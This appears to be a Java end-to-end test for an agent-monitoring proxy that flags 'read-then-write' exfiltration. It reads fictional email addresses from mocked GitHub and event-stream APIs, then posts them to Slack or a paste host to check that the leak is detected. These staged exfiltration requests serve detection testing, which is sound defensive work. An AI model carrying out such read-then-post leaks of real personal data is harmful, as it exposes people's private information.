package dev.airlock.admin.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.airlock.admin.store.Poll;
import dev.airlock.proxy.exfil.ResponseFingerprinter;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Read-then-write through a real node: an agent reads personal data from one API (plain JSON,
 * gzip, or a server-sent event stream) and then writes it to another; the write's trace carries
 * READ_THEN_WRITE_EXFIL. The response itself streams to the agent unhindered.
 */
class ReadThenWriteEndToEndTest {
  private static final String WINDOW_SECONDS = "8";

  static AirlockHarness h;
  static RecordingUpstream github;
  static RecordingUpstream slack;
  static RecordingUpstream paste;
  static RecordingUpstream events;
  static final CountDownLatch firstEventSeen = new CountDownLatch(1);
  static final AtomicBoolean lastEventSent = new AtomicBoolean();

  @BeforeAll
  static void start() throws Exception {
    h = new AirlockHarness();
    h.config("read_then_write:\n  window: " + WINDOW_SECONDS + "s\n");
    github = h.https("api.github.com");
    slack = h.https("slack.com");
    paste = h.https("paste.example.com");
    events = h.https("stream.example.net");
    github.on("/users/jane", ex -> json(ex, "{\"login\":\"jane\",\"email\":\"jane.doe@example.org\"}", false));
    github.on("/users/kim", ex -> json(ex, "{\"login\":\"kim\",\"email\":\"kim.lee@example.org\"}", true));
    github.on("/users/max", ex -> json(ex, "{\"login\":\"max\",\"email\":\"max.mustermann@example.org\"}", false));
    events.on("/events", ReadThenWriteEndToEndTest::eventStream);
    h.start();
  }

  @AfterAll
  static void stop() throws Exception {
    h.close();
  }

  private static void json(com.sun.net.httpserver.HttpExchange ex, String body, boolean gzip) throws IOException {
    byte[] out = body.getBytes(StandardCharsets.UTF_8);
    if (gzip) {
      ByteArrayOutputStream z = new ByteArrayOutputStream();
      try (GZIPOutputStream g = new GZIPOutputStream(z)) {
        g.write(out);
      }
      out = z.toByteArray();
      ex.getResponseHeaders().set("Content-Encoding", "gzip");
    }
    ex.getResponseHeaders().set("Content-Type", "application/json");
    ex.sendResponseHeaders(200, out.length);
    try (OutputStream os = ex.getResponseBody()) {
      os.write(out);
    }
  }

  /** One event, then (once the client has it, or after 20 s) a second one carrying an address. */
  private static void eventStream(com.sun.net.httpserver.HttpExchange ex) throws IOException {
    ex.getResponseHeaders().set("Content-Type", "text/event-stream");
    ex.sendResponseHeaders(200, 0);
    try (OutputStream os = ex.getResponseBody()) {
      os.write("event: status\ndata: {\"state\":\"started\"}\n\n".getBytes(StandardCharsets.UTF_8));
      os.flush();
      try {
        firstEventSeen.await(20, TimeUnit.SECONDS);
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
      lastEventSent.set(true);
      os.write("data: {\"result\":\"owner is ana.silva@example.org\"}\n\n".getBytes(StandardCharsets.UTF_8));
    }
  }

  private static String traceId(String response) {
    return response.replaceAll("(?is).*x-airlock-trace-id: (trc_[0-9a-f]+).*", "$1");
  }

  /** GETs {@code url} through the proxy and waits until the node has scanned what it found in the answer. */
  private static void read(String url) throws Exception {
    ResponseFingerprinter scanner = h.node.responseScanner();
    long before = scanner.valuesFound();
    Clients.Result r = h.curl("--compressed", url);
    assertThat(r.stdout()).as(r.toString()).contains("HTTP/1.1 200").contains("@example.org");
    Poll.until(Duration.ofSeconds(15), "the response to be scanned", () -> scanner.valuesFound() > before);
  }

  private static JsonNode post(String url, String json) throws Exception {
    Clients.Result r = h.curl("-H", "Content-Type: application/json", "--data", json, url);
    assertThat(r.stdout()).as(r.toString()).containsIgnoringCase("x-airlock-trace-id");
    return h.trace(traceId(r.stdout()));
  }

  private static List<String> reasons(JsonNode trace) {
    List<String> out = new ArrayList<>();
    trace.get("reasons").forEach(n -> out.add(n.asText()));
    return out;
  }

  @Test
  void anAddressReadFromGithubAndPostedToSlackIsFlagged() throws Exception {
    read("https://api.github.com/users/jane");
    JsonNode trace = post("https://slack.com/api/chat.postMessage",
        "{\"channel\":\"C1\",\"text\":\"reach her at jane.doe@example.org\"}");
    assertThat(reasons(trace)).contains("READ_THEN_WRITE_EXFIL", "PII_REDACTED");
    assertThat(trace.get("data_classes").toString()).contains("PII.email");
    // The flag keeps the risk the engine scored: every signal stays on the trace.
    assertThat(trace.path("risk_signals").path("sensitive_data_egress").asDouble()).isPositive();
    String metrics = java.net.http.HttpClient.newBuilder().proxy(java.net.http.HttpClient.Builder.NO_PROXY).build()
        .send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + h.node.adminPort() + "/metrics")).build(),
            HttpResponse.BodyHandlers.ofString()).body();
    assertThat(metrics).containsPattern("(?m)^airlock_response_values_found_total [1-9]")
        .containsPattern("(?m)^airlock_response_scans_total [1-9]")
        .containsPattern("(?m)^airlock_response_scans_dropped_total 0");
  }

  @Test
  void anAddressFromAGzipAnswerIsFlaggedWhenPostedElsewhere() throws Exception {
    read("https://api.github.com/users/kim");
    JsonNode trace = post("https://paste.example.com/new", "{\"text\":\"kim.lee@example.org\"}");
    assertThat(reasons(trace)).contains("READ_THEN_WRITE_EXFIL");
    assertThat(trace.get("decision").asText()).isEqualTo("ALLOW");
  }

  @Test
  void anAddressNeverReadIsNotFlagged() throws Exception {
    read("https://api.github.com/users/jane");
    JsonNode trace = post("https://slack.com/api/chat.postMessage",
        "{\"channel\":\"C1\",\"text\":\"write to someone.else@example.org\"}");
    assertThat(reasons(trace)).doesNotContain("READ_THEN_WRITE_EXFIL").contains("PII_REDACTED");
  }

  @Test
  void afterTheWindowTheAddressIsNoLongerFlagged() throws Exception {
    read("https://api.github.com/users/max");
    String body = "{\"text\":\"max.mustermann@example.org\"}";
    assertThat(reasons(post("https://paste.example.com/new", body))).contains("READ_THEN_WRITE_EXFIL");
    long deadline = System.nanoTime() + Duration.ofSeconds(Long.parseLong(WINDOW_SECONDS) + 20).toNanos();
    List<String> last = reasons(post("https://paste.example.com/new", body));
    while (last.contains("READ_THEN_WRITE_EXFIL") && System.nanoTime() < deadline) {
      java.util.concurrent.locks.LockSupport.parkNanos(Duration.ofMillis(500).toNanos());
      last = reasons(post("https://paste.example.com/new", body));
    }
    assertThat(last).doesNotContain("READ_THEN_WRITE_EXFIL");
  }

  @Test
  void anEventStreamReachesTheAgentEventByEventAndItsEventsAreScanned() throws Exception {
    ResponseFingerprinter scanner = h.node.responseScanner();
    long before = scanner.valuesFound();
    HttpResponse<Stream<String>> r = h.jdkClient(h.agentKey).send(
        HttpRequest.newBuilder(URI.create("https://stream.example.net/events")).timeout(Duration.ofSeconds(30)).build(),
        HttpResponse.BodyHandlers.ofLines());
    assertThat(r.statusCode()).isEqualTo(200);
    List<String> lines = new ArrayList<>();
    try (Stream<String> s = r.body()) {
      Iterator<String> it = s.iterator();
      while (it.hasNext()) {
        String line = it.next();
        lines.add(line);
        if (line.contains("started")) {
          assertThat(lastEventSent).as("the first event arrived before the upstream sent the last").isFalse();
          firstEventSeen.countDown();
        }
      }
    }
    assertThat(lines).contains("data: {\"result\":\"owner is ana.silva@example.org\"}");
    Poll.until(Duration.ofSeconds(15), "the events to be scanned", () -> scanner.valuesFound() > before);
    JsonNode trace = post("https://paste.example.com/new", "{\"text\":\"ana.silva@example.org\"}");
    assertThat(reasons(trace)).contains("READ_THEN_WRITE_EXFIL");
  }
}
